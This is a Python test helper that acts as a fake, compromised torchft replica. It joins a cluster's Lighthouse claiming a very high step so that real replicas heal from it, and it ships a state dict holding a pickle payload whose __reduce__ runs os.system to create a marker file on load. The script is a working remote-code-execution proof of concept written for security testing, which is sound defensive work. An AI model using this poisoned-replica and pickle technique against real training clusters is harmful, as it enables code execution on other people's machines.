"""A fake torchft replica (tests/security/test_torchft_attacks.py): what a compromised
cluster member can run with torchft's own client (and spotctl's quorum-id rule, so that
its process group meets the real replicas'). It joins the
cluster's Lighthouse (argv[1]) as a replica at a very high step, so the real replicas are
told to heal from it, and its state carries a pickle that creates argv[2] when loaded.
It takes part in every quorum and its collectives until killed.
"""

from __future__ import annotations

import os
import sys
import time
from datetime import timedelta

import torch
from torchft import Manager, ProcessGroupGloo
from torchft.checkpointing.pg_transport import PGTransport

from spotctl.elastic.ft import UniqueQuorums

FAKE_STEP = 10**6


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, (f"touch {self.marker}",))


def main() -> None:
    lighthouse, marker, store_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    timeout = timedelta(seconds=5)
    # the replica group's store (torchrun's, for a real replica)
    store = torch.distributed.TCPStore("127.0.0.1", store_port, 1, True, wait_for_workers=False)
    pg = ProcessGroupGloo(timeout=timeout)
    manager = Manager(
        pg=pg,
        load_state_dict=lambda _st: None,
        state_dict=lambda: {"pos": {"step": FAKE_STEP, "seed": Payload(marker)}},
        min_replica_size=1,
        use_async_quorum=False,
        timeout=timeout,
        quorum_timeout=timedelta(seconds=60),
        connect_timeout=timeout,
        rank=0,
        world_size=1,
        store_addr="127.0.0.1",
        store_port=store_port,
        lighthouse_addr=lighthouse,
        replica_id="fake",
        hostname="127.0.0.1",
        checkpoint_transport=PGTransport(pg, timeout=timeout, device=torch.device("cpu")),
    )
    manager._client = UniqueQuorums(manager._client)
    manager.load_state_dict({"step": FAKE_STEP, "batches_committed": 0})
    print("fake replica up", flush=True)
    assert store is not None
    while True:
        manager.start_quorum()
        print("quorum", manager.current_step(), manager.num_participants(), flush=True)
        manager.allreduce(torch.zeros(1)).wait()
        manager.should_commit()
        time.sleep(0.02)


if __name__ == "__main__":
    main()
